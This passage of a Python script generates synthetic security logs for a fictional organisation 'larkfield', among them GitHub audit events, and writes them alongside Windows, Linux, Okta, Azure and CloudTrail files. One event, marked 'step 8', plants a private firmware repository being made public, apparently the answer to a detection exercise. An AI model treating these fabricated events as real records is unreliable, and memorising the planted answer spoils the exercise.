for clock, action, actor, more in (("08:15:00", "git.clone", "jonas-weil", {}), ("09:30:00", "pull_request.merge", "ines-roth", {}), ("10:02:00", "repo.create", "jonas-weil", {"visibility": "private"}),
        ("10:40:51", "repo.access", "mara-lindt", {"repo": "larkfield/gauge-firmware", "visibility": "public", "previous_visibility": "private"}),   # step 8
        ("13:00:00", "repo.access", "jonas-weil", {"repo": "larkfield/site", "visibility": "private", "previous_visibility": "public"}), ("13:20:00", "team.add_member", "ines-roth", {})):
    t = at(clock)
    github.append((t, {"@timestamp": int(t.timestamp() * 1000), "_document_id": guid().strip("{}").lower(), "action": action, "actor": actor, "org": "larkfield", "repo": "larkfield/tools",
                       "created_at": int(t.timestamp() * 1000), "operation_type": "modify", **more}))

OUT.mkdir(exist_ok=True)
for name, events in (("windows-sysmon.ndjson", sysmon), ("security-logons.ndjson", logons), ("ecs.ndjson", ecs), ("linux-auditd.ndjson", audit), ("linux-sysmon.ndjson", penguin),
                     ("web.ndjson", web), ("okta.ndjson", okta), ("azure-signins.ndjson", azure), ("github-audit.ndjson", github)):
    write(name, events)
nested.sort(key=lambda pair: pair[0])
(OUT / "windows-nested.json").write_text("".join(json.dumps(event, indent=2) + "\n" for _, event in nested), encoding="utf-8", newline="\n")
trail.sort(key=lambda pair: pair[0])
(OUT / "cloudtrail.json").write_text(json.dumps({"Records": [event for _, event in trail]}, indent=1) + "\n", encoding="utf-8", newline="\n")
print(f"windows-nested.json          {len(nested):4} events\ncloudtrail.json              {len(trail):4} events")
